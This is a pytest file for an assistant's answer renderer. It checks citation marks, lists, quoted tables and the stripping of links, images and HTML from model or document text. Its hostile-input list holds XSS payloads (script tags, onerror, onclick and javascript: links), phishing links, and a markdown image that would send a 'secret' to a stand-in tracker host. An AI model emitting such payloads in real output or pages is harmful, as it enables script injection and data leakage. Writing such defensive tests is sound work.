"""What a model or a document writes stays words; its marks become links."""

from __future__ import annotations

import pytest
from markupsafe import Markup

from assistant.answering.writing.parse import parse
from assistant.answers.parts import Claim
from assistant.answers.status import Verdict
from ui.parts.ask.answer_text import parts_html, quotes_html
from ui.parts.common.text import label


def mark(n: int) -> Markup:
    return Markup(f"<{n}>") if n < 3 else Markup("")


def answer_html(text: str) -> str:
    return parts_html(parse(text, 9), mark)


def test_marks_take_the_place_of_numbers() -> None:
    assert answer_html("Up to 10 days [1]. Ask first [1, 2].") == (
        "<p>Up to 10 days<1>. Ask first<1><2>.</p>"
    )


def test_what_no_source_supports_is_said_in_words() -> None:
    drawn = answer_html("Ask first [1][99]. So **pay** [99].")
    unsupported = ' <span class="no-mark">(not found in a source)</span>'
    assert drawn == f"<p>Ask first<1>{unsupported}. So <strong>pay</strong>{unsupported}.</p>"


def test_lists_paragraphs_and_strong_words() -> None:
    drawn = answer_html("You **must**:\n- ask [1]\n- wait\n\n1. first\n2. second")
    assert drawn == (
        "<p>You <strong>must</strong>:</p><ul><li>ask<1></li><li>wait</li></ul>"
        '<ol start="1"><li>first</li><li>second</li></ol>'
    )


@pytest.mark.parametrize(
    "hostile",
    [
        "![x](http://tracker.example/?q=secret)",
        "[press here](http://phishing.example)",
        "[press\\here](javascript:alert(1))",
        "<img src=x onerror=alert(1)>",
        "<script>alert(1)</script>",
        "**<b onclick=alert(1)>**",
        "# <h1>",
        "- <li onmouseover=alert(1)>",
        "[1](http://phishing.example)",
    ],
)
def test_links_images_and_html_are_dead(hostile: str) -> None:
    drawn = answer_html(f"Words {hostile} words\n{hostile}").replace("<1>", "")  # our own mark
    for own in ("p", "br", "strong", "h4", "ul", "ol", "li"):
        drawn = drawn.replace(f"<{own}>", "").replace(f"</{own}>", "")
    assert "<" not in drawn
    assert "href" not in drawn and "src=" not in drawn.replace("src=x", "")


def test_a_label_is_never_markdown() -> None:
    assert label("a *b* [c](d)\n:red[e]") == r"a \*b\* \[c\]\(d\) \:red\[e\]"


def test_a_quote_keeps_its_lists_and_nothing_else() -> None:
    whole = Claim(
        "2.3 Decline, with **one** exception:\n\n- [1] offence; or\n- <b>", (), Verdict.SUPPORTED
    )
    assert quotes_html([whole], mark) == (
        '<div class="quote"><p>2.3 Decline, with **one** exception:</p>'
        "<ul><li>[1] offence; or</li><li>&lt;b&gt;</li></ul></div>"
    )


def test_quoted_rows_are_drawn_as_a_table() -> None:
    drawn = quotes_html([Claim("Table 3\nPlace | <b>\nBath | £135", (), Verdict.SUPPORTED)], mark)
    assert "<p>Table 3</p>" in drawn
    assert "<tr><td>Place</td><td>&lt;b&gt;</td></tr><tr><td>Bath</td><td>£135</td></tr>" in drawn
    single = quotes_html([Claim("Bath | £135", (), Verdict.SUPPORTED)], mark)
    assert single == '<div class="quote"><p>Bath | £135</p></div>'
